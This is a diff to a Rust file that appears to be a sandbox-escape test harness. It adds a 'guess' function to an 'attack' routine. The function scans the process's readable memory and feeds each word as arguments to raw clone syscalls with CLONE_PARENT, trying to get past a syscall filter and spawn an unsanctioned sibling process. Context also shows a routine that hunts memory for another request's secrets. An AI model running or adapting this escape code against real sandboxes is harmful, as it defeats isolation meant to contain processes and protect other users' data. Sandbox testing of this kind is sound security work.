@@ -161,6 +161,39 @@ fn remains() {
     }
 }
 
+/// Tries all that lies in its memory as what would open its template's filter.
+fn guess() {
+    let (mut tried, mut seen) = (0usize, std::collections::HashSet::new());
+    for (start, end, rights, name) in mappings() {
+        if !rights.starts_with('r') || name.starts_with("[v") {
+            continue;
+        }
+        let mut page = [0u64; 512];
+        for at in (start..end).step_by(4096) {
+            // SAFETY: mapped and readable.
+            unsafe { std::ptr::copy(at as *const u64, page.as_mut_ptr(), page.len()) };
+            for word in page {
+                if !seen.insert(word) {
+                    continue;
+                }
+                tried += 1;
+                let (low, high) = (word as u32 as usize, (word >> 32) as usize);
+                for (low, high) in [(low, high), (high, low)] {
+                    let got = call!(libc::SYS_clone, libc::CLONE_PARENT, 0, 0, 0, low, high);
+                    if got == Ok(0) {
+                        // SAFETY: the sibling, which is not to be there.
+                        unsafe { libc::_exit(0) };
+                    }
+                    if got.is_ok() {
+                        say("sibling by what lies in memory", got);
+                    }
+                }
+            }
+        }
+    }
+    println!("guesses: {}", if tried > 1000 { "many" } else { "few" });
+}
+
 /// Looks through all of its memory for text that another request had. It is told it changed, so that it is nowhere by itself.
 fn secrets(changed: &str) {
     let sought: Vec<u8> = changed.bytes().map(|byte| byte ^ 1).collect();
@@ -241,6 +274,7 @@ pub fn attack() {
         reach(who, number.parse().expect("a number"));
     }
     be_born();
+    guess();
     remains();
     println!("end");
 }
